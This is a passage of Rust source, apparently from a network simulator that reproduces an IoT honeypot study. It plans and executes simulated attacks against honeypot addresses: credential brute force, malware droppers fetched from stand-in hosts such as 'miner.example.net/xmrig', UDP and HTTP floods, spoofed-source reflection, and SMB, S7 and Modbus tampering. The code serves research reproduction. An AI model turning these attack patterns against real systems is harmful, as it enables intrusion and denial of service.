                    dst: *http_targets.choose(rng).expect("targets nonempty"),
                    script: AttackScript::HttpGet {
                        path: "/".into(),
                    },
                });
            }
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::TorRelay,
                tasks,
            });
        }
    }

    /// The major DoS events of Fig. 8 (days 24 and 26), §5.1.3's CoAP flood
    /// pair with duplicate DNS entries, and some domain-registered attackers.
    fn build_dos(&mut self, cfg: &PlanConfig, rng: &mut StdRng, pool: &mut AttackerAddrPool) {
        // The CoAP flood pair (same domain, two addresses).
        let pair = [pool.next(), pool.next()];
        for addr in pair {
            let day = DOS_DAYS[0];
            let mut tasks = vec![
                // They scanned three days before attacking (§5.1.3).
                Task {
                    at: cfg.month_start + SimDuration::from_days(day - 3),
                    dst: cfg.honeypots.hostage,
                    script: AttackScript::CoapDiscovery,
                },
                Task {
                    at: cfg.month_start + SimDuration::from_days(day),
                    dst: cfg.honeypots.hostage,
                    script: AttackScript::UdpFlood {
                        port: ofh_wire::ports::COAP,
                        packets: (6_000 / cfg.hp_scale as u32).max(60),
                        payload_len: 96,
                    },
                },
            ];
            tasks.push(Task {
                at: cfg.month_start + SimDuration::from_days(day) + SimDuration::from_mins(10),
                dst: dark_addr(cfg, rng),
                script: AttackScript::SynProbe { port: 5_683 },
            });
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::DomainHost {
                    domain: "apache2-default.example.net".into(),
                    webpage: true,
                },
                tasks,
            });
        }
        // U-Pot UDP flood on the second DoS day (>80% of its traffic) — a
        // botnet *swarm*: many sources, a few packets each, which is why
        // U-Pot's malicious-unique count dwarfs its scanning count in
        // Table 7. Two of the sources scanned three days earlier (§5.1.3).
        let swarm = cfg
            .scaled(8_000, cfg.hp_scale)
            .min(pool.remaining() / 4)
            .max(4);
        for i in 0..swarm {
            let addr = pool.next();
            let mut tasks = Vec::new();
            if i < 2 {
                tasks.push(Task {
                    at: cfg.month_start + SimDuration::from_days(DOS_DAYS[1] - 3),
                    dst: cfg.honeypots.upot,
                    script: AttackScript::UpnpDiscovery,
                });
            }
            tasks.push(Task {
                at: cfg.month_start
                    + SimDuration::from_days(DOS_DAYS[1])
                    + SimDuration::from_secs(rng.gen_range(0..120)),
                dst: cfg.honeypots.upot,
                script: AttackScript::UdpFlood {
                    port: ofh_wire::ports::SSDP,
                    packets: rng.gen_range(4..10),
                    payload_len: 64,
                },
            });
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::Malicious,
                tasks,
            });
        }
        // Domain-registered attack sources (§5.3).
        let n_domains = cfg.scaled(PAPER_DOMAINS, cfg.hp_scale);
        let n_webpage = cfg.scaled(PAPER_DOMAINS_WEBPAGE, cfg.hp_scale);
        for i in 0..n_domains {
            let addr = pool.next();
            let webpage = i < n_webpage;
            let tasks = vec![Task {
                at: attack_time(cfg, rng),
                dst: cfg.honeypots.cowrie,
                script: AttackScript::TelnetBruteForce {
                    port: 23,
                    credentials: pick_creds(rng, Protocol::Telnet, 2),
                    dropper: Some((
                        format!("http://host{i}.example.org/bot.sh"),
                        mirai_sample(rng),
                    )),
                },
            }];
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::DomainHost {
                    domain: format!("host{i}.example.org"),
                    webpage,
                },
                tasks,
            });
        }
    }

    /// Multistage attackers: protocol sequences per Fig. 9 — most start at
    /// Telnet/SSH, SMB dominates stage 2, S7 stage 3.
    fn build_multistage(&mut self, cfg: &PlanConfig, rng: &mut StdRng, pool: &mut AttackerAddrPool) {
        let n = cfg.scaled(PAPER_MULTISTAGE, cfg.hp_scale);
        let month_end = cfg.month_start + SimDuration::from_days(cfg.month_days);
        // Later stages must still land inside the measurement month
        // ("a follow up attack … may have occurred anytime in the one month
        // experiment period", §5.4).
        let clamp = |t: SimTime| t.min(month_end).max(cfg.month_start);
        for _ in 0..n {
            let addr = pool.next();
            let start = attack_time(cfg, rng);
            let mut tasks = Vec::new();
            // Stage 1: Telnet (60%) or SSH (40%).
            let stage1_telnet = rng.gen_bool(0.6);
            tasks.push(Task {
                at: start,
                dst: if stage1_telnet { cfg.honeypots.hostage } else { cfg.honeypots.cowrie },
                script: if stage1_telnet {
                    AttackScript::TelnetBruteForce {
                        port: 23,
                        credentials: pick_creds(rng, Protocol::Telnet, 2),
                        dropper: None,
                    }
                } else {
                    AttackScript::SshBruteForce {
                        credentials: pick_creds(rng, Protocol::Ssh, 2),
                        dropper: None,
                    }
                },
            });
            // Stage 2: SMB dominates; otherwise HTTP or MQTT.
            let stage2 = rng.gen_range(0..10);
            let (dst2, script2) = if stage2 < 6 {
                (
                    cfg.honeypots.dionaea,
                    AttackScript::SmbEternal {
                        sample: MalwareSample::synthesize(MalwareFamily::WannaCry, rng.gen_range(0..3)),
                    },
                )
            } else if stage2 < 8 {
                (cfg.honeypots.hostage, AttackScript::HttpGet { path: "/admin".into() })
            } else {
                (
                    cfg.honeypots.dionaea,
                    AttackScript::MqttAttack {
                        poison_topic: Some("stage2/poison".into()),
                    },
                )
            };
            tasks.push(Task {
                at: clamp(start + SimDuration::from_hours(rng.gen_range(1..48))),
                dst: dst2,
                script: script2,
            });
            // Stage 3 (some attackers): S7 dominates.
            if rng.gen_bool(0.5) {
                tasks.push(Task {
                    at: clamp(start + SimDuration::from_hours(rng.gen_range(48..240))),
                    dst: cfg.honeypots.conpot,
                    script: AttackScript::S7JobFlood { jobs: 4 },
                });
            }
            self.actors.push(PlannedActor {
                addr,
                category: ActorCategory::Multistage,
                tasks,
            });
        }
    }

    /// All service source addresses by name (oracle ground truth).
    pub fn service_sources(&self) -> BTreeMap<Ipv4Addr, &'static str> {
        self.actors
            .iter()
            .filter_map(|a| match a.category {
                ActorCategory::ScanningService(name) => Some((a.addr, name)),
                _ => None,
            })
            .collect()
    }

    /// Total scheduled tasks (diagnostics).
    pub fn total_tasks(&self) -> usize {
        self.actors.iter().map(|a| a.tasks.len()).sum::<usize>()
            + self.infected.iter().map(|i| i.tasks.len()).sum::<usize>()
            + self.censys_extra.iter().map(|i| i.tasks.len()).sum::<usize>()
    }
}

/// Sequential address allocation from the universe's attacker space.
struct AttackerAddrPool {
    next: u32,
    last: u32,
}

impl AttackerAddrPool {
    fn new(universe: Universe) -> AttackerAddrPool {
        let space = universe.attacker_space();
        AttackerAddrPool {
            next: u32::from(space.first()),
            last: u32::from(space.last()),
        }
    }

    fn next(&mut self) -> Ipv4Addr {
        assert!(self.next <= self.last, "attacker address space exhausted");
        let addr = Ipv4Addr::from(self.next);
        self.next += 1;
        addr
    }

    /// Addresses still available.
    fn remaining(&self) -> u64 {
        (self.last - self.next + 1) as u64
    }
}

/// A random address inside the telescope's dark space.
fn dark_addr(cfg: &PlanConfig, rng: &mut StdRng) -> Ipv4Addr {
    let dark = cfg.universe.dark_space();
    let offset = rng.gen_range(0..dark.len()) as u32;
    Ipv4Addr::from(u32::from(dark.first()) + offset)
}

/// A benign reconnaissance probe against a random honeypot surface.
fn service_probe(cfg: &PlanConfig, rng: &mut StdRng) -> (Ipv4Addr, AttackScript) {
    match rng.gen_range(0..8) {
        0 => (cfg.honeypots.hostage, AttackScript::SynProbe { port: 23 }),
        1 => (cfg.honeypots.cowrie, AttackScript::SynProbe { port: 22 }),
        2 => (cfg.honeypots.conpot, AttackScript::SynProbe { port: 102 }),
        3 => (cfg.honeypots.thingpot, AttackScript::SynProbe { port: 5_222 }),
        4 => (cfg.honeypots.dionaea, AttackScript::HttpGet { path: "/".into() }),
        5 => (cfg.honeypots.upot, AttackScript::UpnpDiscovery),
        6 => (cfg.honeypots.hostage, AttackScript::CoapDiscovery),
        _ => (cfg.honeypots.dionaea, AttackScript::SynProbe { port: 445 }),
    }
}

/// The probe a malicious source sends into the telescope for a protocol.
fn telescope_probe(protocol: Protocol) -> AttackScript {
    match protocol {
        Protocol::Coap => AttackScript::CoapDiscovery,
        Protocol::Upnp => AttackScript::UpnpDiscovery,
        p => AttackScript::SynProbe { port: p.port() },
    }
}

/// A time within the month, weighted by the Fig. 8 intensity profile:
/// baseline early, step up after each listing, heavy late month.
fn attack_time(cfg: &PlanConfig, rng: &mut StdRng) -> SimTime {
    let day = sample_day(cfg, rng);
    cfg.month_start + SimDuration::from_days(day) + SimDuration::from_secs(rng.gen_range(0..86_400))
}

fn sample_day(cfg: &PlanConfig, rng: &mut StdRng) -> u64 {
    // Piecewise intensity: listings at days 4/7/11/15 each raise the level.
    let weights: Vec<f64> = (0..cfg.month_days)
        .map(|d| {
            let mut w = 1.0;
            for &listing in &[4u64, 7, 11, 15] {
                if d >= listing {
                    w += 0.35;
                }
            }
            w
        })
        .collect();
    let total: f64 = weights.iter().sum();
    let mut x = rng.gen_range(0.0..total);
    for (d, w) in weights.iter().enumerate() {
        if x < *w {
            return d as u64;
        }
        x -= w;
    }
    cfg.month_days - 1
}

/// Pick `n` credentials from the Table 12 dictionary, weighted by observed
/// counts (so the honeypot logs regenerate Table 12's ordering).
fn pick_creds(rng: &mut StdRng, protocol: Protocol, n: usize) -> Vec<(String, String)> {
    let dict = dictionary_for(protocol);
    let total: u64 = dict.iter().map(|c| c.paper_count as u64).sum();
    (0..n)
        .map(|_| {
            let mut x = rng.gen_range(0..total);
            for c in &dict {
                if x < c.paper_count as u64 {
                    return (c.username.to_string(), c.password.to_string());
                }
                x -= c.paper_count as u64;
            }
            ("admin".to_string(), "admin".to_string())
        })
        .collect()
}

fn mirai_sample(rng: &mut StdRng) -> MalwareSample {
    MalwareSample::synthesize(MalwareFamily::Mirai, rng.gen_range(0..113))
}

/// A malicious script for a Table 7 row, with its estimated honeypot-event
/// yield.
fn malicious_script(cfg: &PlanConfig, protocol: Protocol, rng: &mut StdRng) -> (AttackScript, u64) {
    match protocol {
        Protocol::Telnet => {
            let r = rng.gen_range(0..10);
            if r < 3 {
                (AttackScript::SynProbe { port: 23 }, 1)
            } else {
                let n_creds = rng.gen_range(1..4);
                let creds = pick_creds(rng, Protocol::Telnet, n_creds);
                let n = creds.len() as u64;
                let dropper = if r >= 8 {
                    Some((
                        format!("http://{}/mirai.arm7", dark_addr(cfg, rng)),
                        mirai_sample(rng),
                    ))
                } else {
                    None
                };
                let extra = if dropper.is_some() { 3 } else { 0 };
                (
                    AttackScript::TelnetBruteForce {
                        port: 23,
                        credentials: creds,
                        dropper,
                    },
                    1 + n + extra,
                )
            }
        }
        Protocol::Ssh => {
            let r = rng.gen_range(0..10);
            if r < 2 {
                (AttackScript::SynProbe { port: 22 }, 1)
            } else {
                let n_creds = rng.gen_range(1..4);
                let creds = pick_creds(rng, Protocol::Ssh, n_creds);
                let n = creds.len() as u64;
                // Crypto-miner droppers (LemonDuck / FritzFrog, §5.1.1).
                let dropper = if r >= 8 {
                    let family = if rng.gen_bool(0.5) {
                        MalwareFamily::LemonDuck
                    } else {
                        MalwareFamily::FritzFrog
                    };
                    Some((
                        "http://miner.example.net/xmrig".to_string(),
                        MalwareSample::synthesize(family, rng.gen_range(0..3)),
                    ))
                } else {
                    None
                };
                let extra = if dropper.is_some() { 3 } else { 0 };
                (
                    AttackScript::SshBruteForce {
                        credentials: creds,
                        dropper,
                    },
                    1 + n + extra,
                )
            }
        }
        Protocol::Mqtt => {
            let poison = rng.gen_bool(0.6);
            (
                AttackScript::MqttAttack {
                    poison_topic: poison.then(|| "devices/state".to_string()),
                },
                2,
            )
        }
        Protocol::Amqp => {
            // Some floods cross the per-minute DoS threshold (§5.1.2:
            // publish floods "leading to a Denial Of Service").
            let frames = rng.gen_range(5..60);
            (AttackScript::AmqpFlood { frames }, 1 + frames as u64)
        }
        Protocol::Coap => match rng.gen_range(0..10) {
            0..=5 => (AttackScript::CoapDiscovery, 1),
            6..=7 => (AttackScript::CoapPoison, 1),
            _ => {
                let packets = rng.gen_range(10..40);
                (
                    AttackScript::UdpFlood {
                        port: ofh_wire::ports::COAP,
                        packets,
                        payload_len: 48,
                    },
                    packets as u64,
                )
            }
        },
        Protocol::Upnp => match rng.gen_range(0..10) {
            0..=2 => (AttackScript::UpnpDiscovery, 1),
            _ => {
                let packets = rng.gen_range(20..80);
                (
                    AttackScript::UdpFlood {
                        port: ofh_wire::ports::SSDP,
                        packets,
                        payload_len: 64,
                    },
                    packets as u64,
                )
            }
        },
        Protocol::Xmpp => (AttackScript::XmppAnonToggle, 3),
        Protocol::Http => match rng.gen_range(0..10) {
            0..=6 => (
                AttackScript::HttpGet {
                    path: ["/", "/login", "/admin", "/api/config"]
                        .choose(rng)
                        .map(|s| s.to_string())
                        .expect("paths nonempty"),
                },
                2,
            ),
            7..=8 => {
                let requests = rng.gen_range(5..20);
                (AttackScript::HttpFlood { requests }, 1 + requests as u64)
            }
            _ => (AttackScript::SynProbe { port: 80 }, 1),
        },
        Protocol::Ftp => {
            let family = if rng.gen_bool(0.5) {
                MalwareFamily::Mozi
            } else {
                MalwareFamily::Lokibot
            };
            (
                AttackScript::FtpUploadMalware {
                    credentials: ("admin".into(), "admin".into()),
                    sample: MalwareSample::synthesize(family, rng.gen_range(0..3)),
                },
                5,
            )
        }
        Protocol::Smb => (
            AttackScript::SmbEternal {
                sample: MalwareSample::synthesize(MalwareFamily::WannaCry, rng.gen_range(0..3)),
            },
            3,
        ),
        Protocol::S7 => {
            let jobs = rng.gen_range(2..8);
            (AttackScript::S7JobFlood { jobs }, 1 + 2 * jobs as u64)
        }
        Protocol::Modbus => (AttackScript::ModbusTamper, 4),
    }
}

/// A bot schedule for an infected device with the given targeting.
fn bot_schedule(
    cfg: &PlanConfig,
    rng: &mut StdRng,
    hits_honeypots: bool,
    hits_telescope: bool,
    _salt: u64,
) -> Vec<Task> {
    let mut tasks = Vec::new();
    if hits_honeypots {
        let n = rng.gen_range(1..4);
        // A bot runs one worm: it speaks one protocol for its whole life
        // (mixing protocols per-bot would masquerade as multistage attacks).
        let telnet = rng.gen_bool(0.7);
        for _ in 0..n {
            let dst = if telnet { cfg.honeypots.cowrie } else { cfg.honeypots.hostage };
            let script = if telnet {
                AttackScript::TelnetBruteForce {
                    port: 23,
                    credentials: pick_creds(rng, Protocol::Telnet, 2),
                    dropper: rng.gen_bool(0.4).then(|| {
                        (
                            format!("http://{}/mirai.arm7", dark_addr(cfg, rng)),
                            mirai_sample(rng),
                        )
                    }),
                }
            } else {
                AttackScript::SshBruteForce {
                    credentials: pick_creds(rng, Protocol::Ssh, 2),
                    dropper: None,
                }
            };
            tasks.push(Task {
                at: attack_time(cfg, rng),
                dst,
                script,
            });
        }
    }
    if hits_telescope {
        let n = rng.gen_range(2..6);
        for _ in 0..n {
            tasks.push(Task {
                at: attack_time(cfg, rng),
                dst: dark_addr(cfg, rng),
                script: AttackScript::SynProbe { port: 23 },
            });
        }
    }
    tasks
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_devices::population::{PopulationBuilder, PopulationSpec};

    fn test_plan() -> (PlanConfig, AttackPlan) {
        let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 20);
        let population = PopulationBuilder::new(PopulationSpec {
            universe,
            scale: 2_048,
            seed: 5,
        })
        .build();
        let cfg = PlanConfig {
            seed: 5,
            hp_scale: 64,
            infected_scale: 2_048,
            universe,
            month_start: SimTime::ZERO + SimDuration::from_days(31),
            month_days: 30,
            honeypots: HoneypotSet::in_lab(&universe),
        };
        let plan = AttackPlan::build(&cfg, &population);
        (cfg, plan)
    }

    #[test]
    fn table7_volumes_sum() {
        let total: u64 = TABLE7_VOLUMES.iter().map(|&(_, _, v)| v).sum();
        // Table 7's printed rows (the paper's stated total is 200,209; its
        // printed rows sum to 200,239 — we reproduce the rows as printed).
        assert_eq!(total, 200_239);
    }

    #[test]
    fn plan_has_all_actor_categories() {
        let (_, plan) = test_plan();
        let has = |f: &dyn Fn(&ActorCategory) -> bool| plan.actors.iter().any(|a| f(&a.category));
        assert!(has(&|c| matches!(c, ActorCategory::ScanningService(_))));
        assert!(has(&|c| matches!(c, ActorCategory::UnknownScanner)));
        assert!(has(&|c| matches!(c, ActorCategory::Malicious)));
        assert!(has(&|c| matches!(c, ActorCategory::TorRelay)));
        assert!(has(&|c| matches!(c, ActorCategory::DomainHost { .. })));
        assert!(has(&|c| matches!(c, ActorCategory::Multistage)));
        assert!(!plan.infected.is_empty());
        assert!(!plan.censys_extra.is_empty());
    }

    #[test]
    fn actor_addresses_unique_and_in_attacker_space() {
        let (cfg, plan) = test_plan();
        let space = cfg.universe.attacker_space();
        let mut addrs: Vec<Ipv4Addr> = plan.actors.iter().map(|a| a.addr).collect();
        let n = addrs.len();
        addrs.sort_unstable();
        addrs.dedup();
        assert_eq!(addrs.len(), n);
        assert!(addrs.iter().all(|a| space.contains(*a)));
    }

    #[test]
    fn infected_overlap_structure() {
        let (_, plan) = test_plan();
        let both = plan
            .infected
            .iter()
            .filter(|i| i.hits_honeypots && i.hits_telescope)
            .count();
        let h_only = plan
            .infected
            .iter()
            .filter(|i| i.hits_honeypots && !i.hits_telescope)
            .count();
        let t_only = plan
            .infected
            .iter()
            .filter(|i| !i.hits_honeypots && i.hits_telescope)
            .count();
        // Paper: both (8,697) >> honeypot-only (1,147) ≈ telescope-only (1,274).
        assert!(both > h_only, "both={both} h_only={h_only}");
        assert!(both > t_only, "both={both} t_only={t_only}");
        assert_eq!(both + h_only + t_only, plan.infected.len());
    }

    #[test]
    fn tasks_lie_within_the_month() {
        let (cfg, plan) = test_plan();
        let end = cfg.month_start + SimDuration::from_days(cfg.month_days);
        for actor in &plan.actors {
            for task in &actor.tasks {
                assert!(task.at >= cfg.month_start && task.at < end + SimDuration::from_days(1));
            }
        }
    }

    #[test]
    fn fig8_intensity_rises_after_listings() {
        let (cfg, plan) = test_plan();
        // Count malicious tasks in the first week vs the last week.
        let mut early = 0u64;
        let mut late = 0u64;
        for actor in &plan.actors {
            if !matches!(actor.category, ActorCategory::Malicious) {
                continue;
            }
            for task in &actor.tasks {
                let day = task.at.since(cfg.month_start).as_secs() / 86_400;
                if day < 7 {
                    early += 1;
                } else if day >= 23 {
                    late += 1;
                }
            }
        }
        assert!(
            late as f64 > early as f64 * 1.2,
            "late={late} early={early}: intensity must rise"
        );
    }

    #[test]
    fn listings_match_services() {
        let (_, plan) = test_plan();
        let names: Vec<&str> = plan.listings.iter().map(|(n, _)| *n).collect();
        assert!(names.contains(&"Shodan"));
        assert!(names.contains(&"BinaryEdge"));
        assert!(names.contains(&"ZoomEye"));
    }

    #[test]
    fn plan_is_deterministic() {
        let (_, a) = test_plan();
        let (_, b) = test_plan();
        assert_eq!(a.total_tasks(), b.total_tasks());
        assert_eq!(a.actors.len(), b.actors.len());
        for (x, y) in a.actors.iter().zip(&b.actors) {
            assert_eq!(x.addr, y.addr);
            assert_eq!(x.tasks.len(), y.tasks.len());
        }
    }
}
