//! The script-driven attacker engine.
//!
//! An [`AttackerAgent`] owns a schedule of [`Task`]s — (time, target,
//! script) triples — and executes each script as an event-driven client
//! state machine speaking real `ofh-wire` bytes. Every attack behaviour the
//! paper observes is one of the [`AttackScript`] variants.

use std::collections::HashMap;
use std::net::Ipv4Addr;

use ofh_intel::MalwareSample;
use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SimTime, SockAddr};
use ofh_wire::coap::{Code, Message};
use ofh_wire::ftp::Command as FtpCommand;
use ofh_wire::mqtt::Packet;
use ofh_wire::smb::{command as smb_cmd, SmbMessage};
use ofh_wire::ssdp::msearch_all;
use ofh_wire::xmpp::client_stream_open;
use ofh_wire::{http, ports};

/// One attack behaviour against one target.
#[derive(Debug, Clone, PartialEq)]
pub enum AttackScript {
    /// Bare TCP connect + close (reconnaissance / scanning probe).
    SynProbe { port: u16 },
    /// Telnet credential brute force; on success optionally drop malware
    /// (the dropper command names `url`, then the binary bytes follow).
    TelnetBruteForce {
        port: u16,
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
    },
    /// SSH brute force over the simplified-SSH framing (see
    /// `ofh-honeypots::deployed`): `AUTH user pass` lines.
    SshBruteForce {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
    },
    /// MQTT: unauthenticated CONNECT, then poison `topic` (None = snoop
    /// `$SYS/#` instead — the paper's most-targeted topics).
    MqttAttack { poison_topic: Option<String> },
    /// AMQP: handshake then publish-flood `frames` body frames.
    AmqpFlood { frames: u32 },
    /// XMPP: anonymous SASL login, then an `<iq type='set'>` state change.
    XmppAnonToggle,
    /// CoAP discovery (`/.well-known/core`) over UDP.
    CoapDiscovery,
    /// CoAP PUT data poisoning.
    CoapPoison,
    /// SSDP `ssdp:discover` over UDP.
    UpnpDiscovery,
    /// UDP flood of `packets` datagrams to `port` (the §5.1.3 DoS).
    UdpFlood { port: u16, packets: u32, payload_len: usize },
    /// Spoofed-source reflection trigger: send `packets` discovery probes to
    /// the target (a reflector) with the victim's address as source.
    ReflectionTrigger { victim: SockAddr, packets: u32 },
    /// One HTTP GET (scraping / recon).
    HttpGet { path: String },
    /// HTTP request flood (`requests` back-to-back requests).
    HttpFlood { requests: u32 },
    /// FTP login + STOR of a malware binary (§5.1.5 Mozi/Lokibot).
    FtpUploadMalware {
        credentials: (String, String),
        sample: MalwareSample,
    },
    /// SMB negotiate + Trans2 exploit carrying a payload (§5.1.5 Eternal* →
    /// WannaCry).
    SmbEternal { sample: MalwareSample },
    /// S7 PDU-type-1 job flood (§5.1.4, ICSA-16-299-01).
    S7JobFlood { jobs: u32 },
    /// Modbus register read + poisoning write (§5.1.4).
    ModbusTamper,
}

impl AttackScript {
    /// Static label for metrics/tracing.
    pub const fn kind_name(&self) -> &'static str {
        match self {
            AttackScript::SynProbe { .. } => "syn_probe",
            AttackScript::TelnetBruteForce { .. } => "telnet_brute_force",
            AttackScript::SshBruteForce { .. } => "ssh_brute_force",
            AttackScript::MqttAttack { .. } => "mqtt_attack",
            AttackScript::AmqpFlood { .. } => "amqp_flood",
            AttackScript::XmppAnonToggle => "xmpp_anon_toggle",
            AttackScript::CoapDiscovery => "coap_discovery",
            AttackScript::CoapPoison => "coap_poison",
            AttackScript::UpnpDiscovery => "upnp_discovery",
            AttackScript::UdpFlood { .. } => "udp_flood",
            AttackScript::ReflectionTrigger { .. } => "reflection_trigger",
            AttackScript::HttpGet { .. } => "http_get",
            AttackScript::HttpFlood { .. } => "http_flood",
            AttackScript::FtpUploadMalware { .. } => "ftp_upload_malware",
            AttackScript::SmbEternal { .. } => "smb_eternal",
            AttackScript::S7JobFlood { .. } => "s7_job_flood",
            AttackScript::ModbusTamper => "modbus_tamper",
        }
    }
}

/// A scheduled attack.
#[derive(Debug, Clone)]
pub struct Task {
    pub at: SimTime,
    pub dst: Ipv4Addr,
    pub script: AttackScript,
}

/// Per-connection execution state.
#[derive(Debug)]
enum Running {
    SynProbe,
    TelnetLogin {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
        next_cred: usize,
        stage: LoginStage,
    },
    SshLogin {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
        next_cred: usize,
        identified: bool,
    },
    Mqtt {
        poison_topic: Option<String>,
        connected: bool,
    },
    Amqp {
        frames: u32,
        started: bool,
    },
    Xmpp {
        opened: bool,
        authed: bool,
    },
    Http {
        remaining: u32,
        path: String,
    },
    Ftp {
        credentials: (String, String),
        sample: MalwareSample,
        stage: u8,
    },
    Smb {
        sample: MalwareSample,
        negotiated: bool,
    },
    S7 {
        jobs: u32,
        sent: bool,
    },
    Modbus {
        sent: bool,
    },
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum LoginStage {
    SendUser,
    SendPass,
    Shell,
    Dropped,
}

/// The generic attacker agent.
pub struct AttackerAgent {
    tasks: Vec<Task>,
    running: HashMap<ConnToken, Running>,
    /// Count of completed tasks (diagnostics).
    pub completed: u64,
    /// Successful logins achieved (bot propagation metric).
    pub logins: u64,
}

impl AttackerAgent {
    pub fn new(mut tasks: Vec<Task>) -> AttackerAgent {
        // Schedule in time order; timers are set at boot.
        tasks.sort_by_key(|t| t.at);
        AttackerAgent {
            tasks,
            running: HashMap::new(),
            completed: 0,
            logins: 0,
        }
    }

    pub fn task_count(&self) -> usize {
        self.tasks.len()
    }

    fn launch(&mut self, ctx: &mut NetCtx<'_>, idx: usize) {
        let task = self.tasks[idx].clone();
        let dst = task.dst;
        ofh_obs::count_l("attack.task.launched", task.script.kind_name(), 1);
        ofh_obs::span(
            "attack.task",
            task.script.kind_name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(dst),
            0,
            0,
        );
        match task.script {
            AttackScript::SynProbe { port } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, port));
                self.running.insert(conn, Running::SynProbe);
            }
            AttackScript::TelnetBruteForce {
                port,
                credentials,
                dropper,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, port));
                self.running.insert(
                    conn,
                    Running::TelnetLogin {
                        credentials,
                        dropper,
                        next_cred: 0,
                        stage: LoginStage::SendUser,
                    },
                );
            }
            AttackScript::SshBruteForce {
                credentials,
                dropper,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::SSH));
                self.running.insert(
                    conn,
                    Running::SshLogin {
                        credentials,
                        dropper,
                        next_cred: 0,
                        identified: false,
                    },
                );
            }
            AttackScript::MqttAttack { poison_topic } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::MQTT));
                self.running.insert(
                    conn,
                    Running::Mqtt {
                        poison_topic,
                        connected: false,
                    },
                );
            }
            AttackScript::AmqpFlood { frames } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::AMQP));
                self.running.insert(conn, Running::Amqp { frames, started: false });
            }
            AttackScript::XmppAnonToggle => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::XMPP_CLIENT));
                self.running.insert(
                    conn,
                    Running::Xmpp {
                        opened: false,
                        authed: false,
                    },
                );
            }
            AttackScript::CoapDiscovery => {
                let probe = Message::well_known_core_request(0x42);
                ctx.udp_send(43_000, SockAddr::new(dst, ports::COAP), probe.encode());
                self.completed += 1;
            }
            AttackScript::CoapPoison => {
                let mut put = Message::well_known_core_request(0x43);
                put.code = Code::PUT;
                put.payload = b"poisoned-value".to_vec();
                ctx.udp_send(43_000, SockAddr::new(dst, ports::COAP), put.encode());
                self.completed += 1;
            }
            AttackScript::UpnpDiscovery => {
                ctx.udp_send(43_001, SockAddr::new(dst, ports::SSDP), msearch_all().into_bytes());
                self.completed += 1;
            }
            AttackScript::UdpFlood {
                port,
                packets,
                payload_len,
            } => {
                let payload = vec![0xA5u8; payload_len];
                for _ in 0..packets {
                    ctx.udp_send(43_002, SockAddr::new(dst, port), payload.clone());
                }
                self.completed += 1;
            }
            AttackScript::ReflectionTrigger { victim, packets } => {
                let probe = msearch_all().into_bytes();
                for _ in 0..packets {
                    ctx.udp_send_spoofed(victim, SockAddr::new(dst, ports::SSDP), probe.clone());
                }
                self.completed += 1;
            }
            AttackScript::HttpGet { path } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::HTTP));
                self.running.insert(conn, Running::Http { remaining: 1, path });
            }
            AttackScript::HttpFlood { requests } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::HTTP));
                self.running.insert(
                    conn,
                    Running::Http {
                        remaining: requests,
                        path: "/".into(),
                    },
                );
            }
            AttackScript::FtpUploadMalware {
                credentials,
                sample,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::FTP));
                self.running.insert(
                    conn,
                    Running::Ftp {
                        credentials,
                        sample,
                        stage: 0,
                    },
                );
            }
            AttackScript::SmbEternal { sample } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::SMB));
                self.running.insert(
                    conn,
                    Running::Smb {
                        sample,
                        negotiated: false,
                    },
                );
            }
            AttackScript::S7JobFlood { jobs } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::S7));
                self.running.insert(conn, Running::S7 { jobs, sent: false });
            }
            AttackScript::ModbusTamper => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::MODBUS));
                self.running.insert(conn, Running::Modbus { sent: false });
            }
        }
    }

    fn finish(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, close: bool) {
        if self.running.remove(&conn).is_some() {
            self.completed += 1;
            if close {
                ctx.tcp_close(conn);
            }
        }
    }
}

impl Agent for AttackerAgent {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        let now = ctx.now();
        for (i, task) in self.tasks.iter().enumerate() {
            ctx.set_timer(task.at.since(now), i as u64);
        }
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        let idx = token as usize;
        if idx < self.tasks.len() {
            self.launch(ctx, idx);
        }
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        match self.running.get_mut(&conn) {
            Some(Running::SynProbe) => {
                // Recon done: the port is open.
                self.finish(ctx, conn, true);
            }
            Some(Running::Mqtt { .. }) => {
                ctx.tcp_send(
                    conn,
                    Packet::Connect {
                        client_id: "bot".into(),
                        username: None,
                        password: None,
                        keep_alive: 30,
                        clean_session: true,
                    }
                    .encode(),
                );
            }
            Some(Running::Amqp { .. }) => {
                ctx.tcp_send(conn, ofh_wire::amqp::PROTOCOL_HEADER.to_vec());
            }
            Some(Running::Xmpp { .. }) => {
                ctx.tcp_send(conn, client_stream_open("target").into_bytes());
            }
            Some(Running::Http { path, .. }) => {
                let req = http::Request::get(path);
                ctx.tcp_send(conn, req.render());
            }
            Some(Running::Smb { .. }) => {
                ctx.tcp_send(conn, SmbMessage::negotiate_request().encode());
            }
            Some(Running::S7 { jobs, sent }) => {
                let n = *jobs;
                *sent = true;
                for i in 0..n {
                    let job = ofh_wire::s7::S7Message::job(
                        i as u16,
